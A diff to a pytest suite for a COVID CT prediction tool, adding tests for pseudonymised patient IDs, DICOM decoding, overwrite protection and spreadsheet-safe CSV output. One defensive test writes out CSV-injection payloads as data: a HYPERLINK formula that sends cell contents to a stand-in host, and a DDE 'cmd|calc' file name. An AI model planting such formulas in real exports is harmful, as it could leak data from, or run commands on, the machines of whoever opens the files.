@@ -11,6 +11,7 @@ import sys
 from pathlib import Path
 
 import numpy as np
+import pydicom
 import pytest
 import torch
 from PIL import Image
@@ -24,9 +25,10 @@ from covidct.explain import FLAT_NOTE, TILE_TITLE_WIDTH, choose, describe_run, e
 from covidct.inference import TrainedModel
 from covidct.methods import Ours, Single
 from covidct.predict import predict_folder
+from covidct.pseudonyms import Pseudonyms
 from covidct.records import read_predictions
 from tests.helpers import FAST, REPO, compose_experiment
-from tests.test_dicom import compress, write_series
+from tests.test_dicom import compress, transcode, write_series
 
 
 def _train(phantom_root: Path, out: Path, experiment: str, *overrides: str) -> Path:
@@ -145,22 +147,30 @@ def test_predict_reads_folders_of_dicom_series_along_the_body_and_summarises_eac
     assert predict_module.main(args) == 0
     assert "2 DICOM series summarised per patient" in capsys.readouterr().out
     rows = read_csv(out)
+    shown = Pseudonyms()  # the session's key (tests/conftest.py); the folders are named by the PatientIDs
+    p1, p2 = shown.patient("P1"), shown.patient("P2")
     assert [r["file"] for r in rows] == [
-        "P1/chest/slice002.dcm",  # z = 0
-        "P1/chest/slice001.dcm",  # z = 10
-        "P1/chest/slice003.dcm",  # z = 20
-        "P2/slice001.dcm",  # z = -5
-        "P2/slice002.dcm",  # z = 5
+        f"{p1}/chest/slice002.dcm",  # z = 0
+        f"{p1}/chest/slice001.dcm",  # z = 10
+        f"{p1}/chest/slice003.dcm",  # z = 20
+        f"{p2}/slice001.dcm",  # z = -5
+        f"{p2}/slice002.dcm",  # z = 5
     ]
     assert all(r["error"] == "" for r in rows) and len({r["prob_covid"] for r in rows}) > 1
     summary = {r["patient"]: r for r in read_csv(out.with_name("dicom_patients.csv"))}
-    for patient, folder, n in (("P1", "P1/chest", 3), ("P2", "P2", 2)):
-        probs = [float(r["prob_covid"]) for r in rows if r["file"].startswith(f"{patient}/")]
-        row = summary[patient]
-        assert (row["series"], int(row["slices"]), int(row["unreadable"])) == (folder, n, 0)
+    assert set(summary) == {p1, p2}
+    for patient, folder, n in (("P1", "{}/chest", 3), ("P2", "{}", 2)):
+        pseudonym = shown.patient(patient)
+        probs = [float(r["prob_covid"]) for r in rows if r["file"].startswith(f"{pseudonym}/")]
+        row = summary[pseudonym]
+        assert (row["series"], int(row["slices"]), int(row["unreadable"])) == (folder.format(pseudonym), n, 0)
         assert float(row["prob_mean"]) == pytest.approx(sum(probs) / n)
         assert float(row["prob_max"]) == pytest.approx(max(probs))
         assert row["prediction"] == ("COVID" if sum(probs) / n >= 0.5 else "non-COVID")
+    raw = tmp_path / "raw.csv"
+    assert predict_module.main([*args[:-1], f"out={raw}", "patient_ids=raw"]) == 0
+    assert [r["patient"] for r in read_csv(raw.with_name("raw_patients.csv"))] == ["P1", "P2"]
+    assert [r["file"] for r in read_csv(raw)][0] == "P1/chest/slice002.dcm"
 
 
 def test_predict_lists_an_unreadable_slice_and_stops_at_a_series_it_cannot_order(ours_run: Path, tmp_path: Path):
@@ -169,7 +179,7 @@ def test_predict_lists_an_unreadable_slice_and_stops_at_a_series_it_cannot_order
     compress(slices[1])
     rows = predict_folder(ckpt(ours_run), images, "B", recursive=True)
     assert [bool(r["error"]) for r in rows] == [False, True, False]
-    assert "compressed (JPEG 2000" in rows[1]["error"] and "pip install" in rows[1]["error"]
+    assert "JPEG 2000" in rows[1]["error"] and "cannot be decoded" in rows[1]["error"]
     (patient,) = predict_module.patient_summary(rows, images)
     assert (patient["slices"], patient["unreadable"]) == (3, 1)
 
@@ -438,3 +448,103 @@ def test_predict_names_an_image_over_pils_pixel_limit_and_classifies_the_rest(
     rows = {row["file"]: row for row in predict_folder(ckpt(ours_run), folder, "A")}
     assert "decompression-bomb limit" in rows["huge.png"]["error"] and rows["huge.png"]["prob_covid"] is None
     assert rows["good.png"]["error"] is None and 0 <= rows["good.png"]["prob_covid"] <= 1
+
+
+def multicentre_export(root: Path, patients: int = 2, slices: int = 3) -> Path:
+    """The layout of a public multi-centre COVID CT DICOM export: a folder per patient named by its PatientID,
+    slices without a suffix in JPEG Lossless (process 14, SV1), each with a PatientName."""
+    for p in range(patients):
+        folder = root / f"MRN{p:04d}"
+        for k, path in enumerate(write_series(folder, [2.5 * k for k in range(slices)], patient=f"MRN{p:04d}")):
+            ds = pydicom.dcmread(path)
+            ds.PatientName = f"DOE^JANE{p}"
+            ds.save_as(path)
+            transcode(path, folder / f"IM{k:04d}", "JPEGLosslessProcess14_1")
+            path.unlink()
+    return root
+
+
+def test_a_multicentre_jpeg_lossless_export_predicts_per_patient_with_pseudonyms_only(ours_run: Path, tmp_path: Path):
+    images = multicentre_export(tmp_path / "export")
+    outputs = {}
+    for workers in (0, 2):
+        out = tmp_path / f"w{workers}" / "predictions.csv"
+        args = [f"ckpt={ckpt(ours_run)}", f"images={images}", "site=B", "recursive=true", f"out={out}"]
+        proc = subprocess.run(
+            [sys.executable, "-m", "covidct.predict", *args, f"workers={workers}"],
+            cwd=REPO,
+            capture_output=True,
+            text=True,
+        )
+        assert proc.returncode == 0, proc.stderr
+        assert "6 image(s) classified, 0 unreadable" in proc.stdout
+        written = out.read_text() + out.with_name("predictions_patients.csv").read_text() + proc.stdout + proc.stderr
+        assert "MRN" not in written and "DOE" not in written and "JANE" not in written  # no id, no name anywhere
+        outputs[workers] = read_csv(out), read_csv(out.with_name("predictions_patients.csv"))
+    (rows, patients), (rows_2, patients_2) = outputs[0], outputs[2]
+    assert rows == rows_2 and patients == patients_2  # decoding in worker processes changes nothing
+    assert [int(p["slices"]) for p in patients] == [3, 3] and all(p["patient"].startswith("pt-") for p in patients)
+    assert all(r["error"] == "" for r in rows)
+
+
+def test_every_csv_cell_is_safe_to_open_in_a_spreadsheet(ours_run: Path, phantom_root: Path, tmp_path: Path):
+    """A file name and a PatientID that a spreadsheet would run as formulas are written as text (openpyxl reads a
+    cell that begins with '=' as a formula, as a spreadsheet's CSV import does)."""
+    from openpyxl import Workbook
+
+    images = tmp_path / "images"
+    write_series(images / "series", [0.0, 5.0], patient='=HYPERLINK("http://x.example/?"&A1,"open")')
+    shutil.copy(phantom_root / "sars-cov-2" / "COVID" / "img000.png", images / "+cmd|' -C calc'!A0.png")
+    out = tmp_path / "predictions.csv"
+    args = [f"ckpt={ckpt(ours_run)}", f"images={images}", "site=B", "recursive=true", f"out={out}", "patient_ids=raw"]
+    assert predict_module.main(args) == 0
+    sheet = Workbook().active
+    for path in (out, out.with_name("predictions_patients.csv")):
+        with path.open(newline="") as fh:
+            for row in csv.reader(fh):
+                sheet.append(row)
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
+    assert not [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    files = [r["file"] for r in read_csv(out)]
+    assert "'+cmd|' -C calc'!A0.png" in files  # shown as text, and still the file's name
+
+
+def test_predict_never_writes_over_a_record_an_input_or_an_existing_file(
+    ours_run: Path, mixed_folder: Path, tmp_path: Path, capsys
+):
+    base = [f"ckpt={ckpt(ours_run)}", f"images={mixed_folder}", "site=A"]
+    record = (ours_run / "predictions.csv").read_bytes()
+    scan = (mixed_folder / "COVID_img000.png").read_bytes()
+    for out, extra, message in [
+        (ours_run / "predictions.csv", ["overwrite=true"], "would write into the record of the run"),
+        (mixed_folder / "COVID_img000.png", ["overwrite=true"], "would overwrite one of its inputs"),
+        (ckpt(ours_run), ["overwrite=true"], "would overwrite one of its inputs"),
+    ]:
+        assert predict_module.main([*base, f"out={out}", *extra]) == 2
+        assert message in capsys.readouterr().err
+    assert (ours_run / "predictions.csv").read_bytes() == record
+    assert (mixed_folder / "COVID_img000.png").read_bytes() == scan
+    out = tmp_path / "p.csv"
+    assert predict_module.main([*base, f"out={out}"]) == 0
+    first = out.read_text()
+    out.write_text("the user's own notes")
+    assert predict_module.main([*base, f"out={out}"]) == 2
+    assert "p.csv exists; add overwrite=true" in capsys.readouterr().err
+    assert out.read_text() == "the user's own notes"
+    assert predict_module.main([*base, f"out={out}", "overwrite=true"]) == 0 and out.read_text() == first
+
+
+def test_predict_says_what_it_skips_and_lists_broken_links_and_pictures_beside_slices(
+    ours_run: Path, phantom_root: Path, tmp_path: Path, capsys
+):
+    images = tmp_path / "images"
+    write_series(images / "P1", [0.0, 5.0], patient="P1")
+    shutil.copy(phantom_root / "sars-cov-2" / "COVID" / "img000.png", images / "P1" / "a_key_image.png")
+    (images / "P1" / "gone.png").symlink_to(tmp_path / "nowhere.png")
+    (images / "P1" / "notes.txt").write_text("not an image")
+    rows = predict_folder(ckpt(ours_run), images, "B", recursive=True)
+    files = {row["file"]: row for row in rows}
+    assert set(files) == {"P1/slice001.dcm", "P1/slice002.dcm", "P1/a_key_image.png", "P1/gone.png"}
+    assert "broken link" in files["P1/gone.png"]["error"] and files["P1/a_key_image.png"]["prob_covid"] is not None
+    assert "ignored 1 file(s) in" in capsys.readouterr().err
